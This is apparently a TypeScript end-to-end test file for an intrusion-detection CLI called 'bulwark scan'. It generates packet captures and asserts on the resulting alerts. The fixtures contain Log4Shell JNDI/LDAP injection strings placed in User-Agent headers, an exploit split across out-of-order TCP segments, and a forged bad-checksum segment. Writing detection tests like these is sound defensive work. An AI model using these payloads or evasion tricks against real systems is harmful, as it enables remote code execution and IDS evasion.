/**
 * `bulwark scan` end to end: the built CLI (node bin/bulwark.js) on capture files this test
 * generates into test/fixtures/engine, with the shipped databases: an exploit split over several
 * out-of-order segments, a port scan, a brute force; asserts on the EVE-JSON lines.
 */
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, existsSync, statSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { run } from './netns.js';
import { buildPcap, type PcapRecord } from '../../src/engine/pcap-writer.js';
import { Conv } from '../unit/engine/helpers.js';

const root = path.resolve(import.meta.dirname, '../..');
const fixtures = path.join(root, 'test/fixtures/engine');
const bin = path.join(root, 'bin/bulwark.js');

interface Eve {
  event_type: string;
  src_ip: string;
  dest_port: number;
  alert: { signature_id: number; signature: string; severity: number };
  bulwark: { detector?: string; count: number; payload_excerpt?: string; details?: Record<string, unknown> };
}

function newestMtime(dir: string): number {
  let m = 0;
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    m = Math.max(m, e.isDirectory() ? newestMtime(p) : statSync(p).mtimeMs);
  }
  return m;
}

before(async () => {
  // bin/bulwark.js runs the compiled CLI: build when dist is missing or older than src.
  const distMain = path.join(root, 'dist/cli/main.js');
  const distScan = path.join(root, 'dist/cli/commands/scan.js');
  if (!existsSync(distMain) || !existsSync(distScan) || statSync(distScan).mtimeMs < newestMtime(path.join(root, 'src'))) {
    await run(process.execPath, [path.join(root, 'node_modules/typescript/bin/tsc'), '-p', path.join(root, 'tsconfig.build.json')], { timeoutMs: 180_000 });
  }
  assert.ok(existsSync(distScan), 'build did not produce dist/cli/commands/scan.js');
});

function write(name: string, frames: PcapRecord[]): string {
  const p = path.join(fixtures, name);
  writeFileSync(p, buildPcap(frames));
  return p;
}

async function scan(file: string, extra: string[] = []): Promise<{ events: Eve[]; stats: Record<string, unknown>; code: number; stderr: string }> {
  const r = await run(process.execPath, [bin, 'scan', file, '--databases', path.join(root, 'databases'), '--json', ...extra], { timeoutMs: 60_000 });
  const lines = r.stdout.trim().split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as Eve & Record<string, unknown>);
  return { events: lines.filter((l) => l.event_type === 'alert'), stats: lines.find((l) => l.event_type === 'stats') ?? {}, code: r.code, stderr: r.stderr };
}

test('an exploit split over out-of-order segments is detected once', async () => {
  const c = new Conv('203.0.113.50', '198.51.100.10', 45000, 80).handshake();
  const req = 'GET /search HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.50:1389/Exploit}\r\nAccept: */*\r\n\r\n';
  const cut1 = req.indexOf('${jn') + 3;
  const cut2 = req.indexOf('ldap') + 2;
  c.c(req.slice(cut2), { at: cut2 }).c(req.slice(cut1, cut2), { at: cut1 }).c(req.slice(0, cut1), { at: 0 }).c(req.slice(0, cut2), { at: 0 });
  c.advanceClient(req.length).s('HTTP/1.1 200 OK\r\n\r\n').fin();
  const file = write('exploit-split.pcap', c.frames);
  const { events, stats, code, stderr } = await scan(file);
  assert.equal(code, 0, stderr);
  const log4 = events.filter((e) => /Log4Shell/i.test(e.alert.signature));
  assert.ok(log4.length >= 1, `no Log4Shell alert in ${JSON.stringify(events)}`);
  assert.equal(new Set(log4.map((e) => e.alert.signature_id)).size, log4.length, 'a signature alerted twice on one flow');
  assert.equal(log4[0]!.src_ip, '203.0.113.50');
  assert.equal(log4[0]!.dest_port, 80);
  assert.match(log4[0]!.bulwark.payload_excerpt ?? '', /User-Agent: \$\{jndi:/);
  assert.equal(stats.packets, c.frames.length);
  assert.equal(stats.alerts, events.length);
});

test('a port scan and a brute force raise detector events', async () => {
  const frames: PcapRecord[] = [];
  let ts = 1_763_700_000_000_000;
  for (let p = 1; p <= 40; p++) {
    const c = new Conv('203.0.113.60', '198.51.100.10', 50000 + p, 1000 + p * 3, { tsUs: (ts += 10_000) }).syn();
    frames.push(...c.frames);
  }
  for (let i = 0; i < 15; i++) {
    const c = new Conv('203.0.113.61', '198.51.100.10', 51000 + i, 22, { tsUs: (ts += 500_000) }).handshake().s('SSH-2.0-OpenSSH_9.6\r\n').c('SSH-2.0-libssh\r\n').fin();
    frames.push(...c.frames);
  }
  const file = write('scan-bruteforce.pcap', frames);
  const { events, code, stderr } = await scan(file);
  assert.equal(code, 0, stderr);
  const scans = events.filter((e) => e.bulwark.detector === 'portscan');
  assert.equal(scans.length, 1, JSON.stringify(events));
  assert.equal(scans[0]!.src_ip, '203.0.113.60');
  const brute = events.filter((e) => e.bulwark.detector === 'bruteforce');
  assert.equal(brute.length, 1, JSON.stringify(events));
  assert.equal(brute[0]!.src_ip, '203.0.113.61');
  assert.equal(brute[0]!.dest_port, 22);
  assert.equal(events.filter((e) => e.src_ip === '203.0.113.61' && e.bulwark.detector === 'portscan').length, 0);
});

test('human output, clean traffic and errors', async () => {
  const c = new Conv('203.0.113.70', '198.51.100.10', 45001, 80).handshake().c('GET / HTTP/1.1\r\nHost: x\r\n\r\n').s('HTTP/1.1 200 OK\r\n\r\nhello').fin();
  const file = write('clean.pcap', c.frames);
  const r = await run(process.execPath, [bin, 'scan', file, '--databases', path.join(root, 'databases')], { timeoutMs: 60_000 });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /clean\.pcap: 8 packets, \d+ bytes, 1 flows, 0 alerts in [\d.]+ s \([\d.]+ Mbit\/s, \d+ packets\/s\)/);
  const missing = await run(process.execPath, [bin, 'scan', path.join(fixtures, 'does-not-exist.pcap'), '--databases', path.join(root, 'databases')]);
  assert.equal(missing.code, 1);
  assert.match(missing.stderr, /cannot open/);
  const usage = await run(process.execPath, [bin, 'scan']);
  assert.equal(usage.code, 2);
});

test('checksums: auto decides from the file\'s own sample before inspecting; a capture with offload-broken checksums is inspected, a forged segment among valid ones is dropped', async () => {
  const c = new Conv('203.0.113.80', '198.51.100.10', 45002, 80).handshake();
  c.c('GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.80:1389/a}\r\n\r\n').fin();
  const breakSum = (f: PcapRecord): PcapRecord => {
    const d = Uint8Array.from(f.data);
    d[50] = d[50]! ^ 0xff;
    return { ...f, data: d };
  };
  // Every TCP checksum broken, as in a capture taken on the sending host with checksum offload:
  // more than 1 in 10 of the sample is invalid, so auto turns validation off for the whole file.
  const frames = c.frames.map(breakSum);
  const file = write('bad-checksums.pcap', frames);
  const auto = await scan(file);
  assert.equal(auto.code, 0, auto.stderr);
  assert.ok(auto.events.some((e) => /Log4Shell/i.test(e.alert.signature)), JSON.stringify(auto.events));
  assert.deepEqual(auto.stats.dropped, {});
  assert.deepEqual(auto.stats.checksum, { mode: 'auto', validation: 'off', packets: 0, invalid: 0, sample: { packets: frames.length, invalid: frames.length } });
  // Validation forced on (Suricata -k all): no stream sees them, and the CLI says why.
  const yes = await scan(file, ['--checksum-checks', 'yes']);
  assert.equal(yes.events.length, 0, 'invalid packets feed no stream');
  assert.deepEqual(yes.stats.dropped, { bad_checksum: frames.length });
  assert.match(yes.stderr, /invalid checksum and were kept out of the streams.*--checksum-checks no/);

  // One forged segment (bad checksum) carrying the attack among 20 valid packets: under 1 in 10,
  // so validation stays on and the forged segment feeds nothing.
  const d = new Conv('203.0.113.81', '198.51.100.10', 45003, 80).handshake();
  for (let i = 0; i < 8; i++) d.c(`GET /p${i} HTTP/1.1\r\nHost: victim\r\n\r\n`).s('HTTP/1.1 204 No Content\r\n\r\n');
  const good = d.frames.length;
  d.c('GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.81:1389/a}\r\n\r\n');
  const mixed = [...d.frames.slice(0, good), breakSum(d.frames[good]!)];
  const file2 = write('one-forged.pcap', mixed);
  const on = await scan(file2);
  assert.equal(on.events.length, 0, JSON.stringify(on.events));
  assert.deepEqual(on.stats.dropped, { bad_checksum: 1 });
  assert.deepEqual((on.stats.checksum as { validation: string; sample: unknown }).sample, { packets: mixed.length, invalid: 1 });
  assert.equal((on.stats.checksum as { validation: string }).validation, 'on');
  assert.match(on.stderr, /1 of \d+ TCP packets have an invalid checksum.*not checksum offload/);
  const no = await scan(file2, ['--checksum-checks', 'no']);
  assert.ok(no.events.some((e) => /Log4Shell/i.test(e.alert.signature)), JSON.stringify(no.events));
  const bad = await run(process.execPath, [bin, 'scan', file, '--checksum-checks', 'maybe']);
  assert.equal(bad.code, 2);
});
